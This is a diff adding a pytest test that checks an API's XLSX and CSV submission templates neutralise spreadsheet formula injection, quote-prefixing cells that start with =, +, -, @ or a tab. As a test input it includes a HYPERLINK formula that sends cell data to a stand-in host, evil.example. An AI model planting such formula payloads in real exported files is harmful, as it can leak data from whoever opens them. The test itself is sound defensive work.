@@ -9,9 +9,12 @@ another, the test orders events (the other request is answered while the first i
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import threading
 import uuid
+import zipfile
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -19,6 +22,7 @@ from typing import Any
 
 import httpx
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
 from pmf_api.access.actor import Grant
@@ -434,3 +438,44 @@ async def test_a_chunked_body_over_the_limit_gets_413(small_limits: httpx.AsyncC
         headers={**auth(), "Content-Type": "application/json"},
     )
     _problem(answer, 413)
+
+
+# --------------------------------------------------------------------------------------------
+# 6. The files we write never carry a live formula
+# --------------------------------------------------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'
+
+
+async def test_the_submission_template_carries_no_formula(client: httpx.AsyncClient, auth: TokenFactory) -> None:
+    h = auth()
+    s = await structure(client, h)
+    owner = await post(client, "/api/v1/people", {"name": "@SUM(1+1)", "email": "at@example.gov.uk"}, h)
+    kpis = [
+        await post(client, "/api/v1/kpis", kpi_body(s, code="-PI1", title=FORMULA_TITLE, owner_id=owner["id"]), h),
+        await post(client, "/api/v1/kpis", kpi_body(s, code="PI2", title="+44 calls\tanswered"), h),
+    ]
+    url = f"/api/v1/services/{s.service_id}/submission-template"
+
+    book = await client.get(url, params={"period": "2025/26 P6"}, headers=h)
+    assert book.status_code == 200, book.text
+    with zipfile.ZipFile(io.BytesIO(book.content)) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets)
+    values = load_workbook(io.BytesIO(book.content))["Values"]
+    lines = {row[0].value: row for row in values.iter_rows(min_row=2)}
+    assert set(lines) == {"-PI1", "PI2"}
+    title, owner_cell = lines["-PI1"][1], lines["-PI1"][4]
+    assert (title.value, title.data_type, title.quotePrefix) == (FORMULA_TITLE, "s", True)
+    assert (owner_cell.value, owner_cell.data_type, owner_cell.quotePrefix) == ("@SUM(1+1)", "s", True)
+    assert lines["-PI1"][0].quotePrefix and lines["PI2"][1].quotePrefix
+
+    as_csv = await client.get(url, params={"period": "2025/26 P6", "format": "csv"}, headers=h)
+    cells = [cell for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) for cell in row]
+    assert {"'-PI1", "'" + FORMULA_TITLE, "'@SUM(1+1)", "'+44 calls\tanswered"} <= set(cells)
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    # The neutralised cells still come back as they were: the template round trip holds.
+    for payload, content_type in ((as_csv.content, "text/csv"), (book.content, XLSX)):
+        back = await client.post(BULK, content=payload, headers={**h, "Content-Type": content_type})
+        assert back.status_code == 200, back.text
+        assert {r["kpi_code"]: r["outcome"] for r in back.json()["rows"]} == {k["code"]: "skipped" for k in kpis}
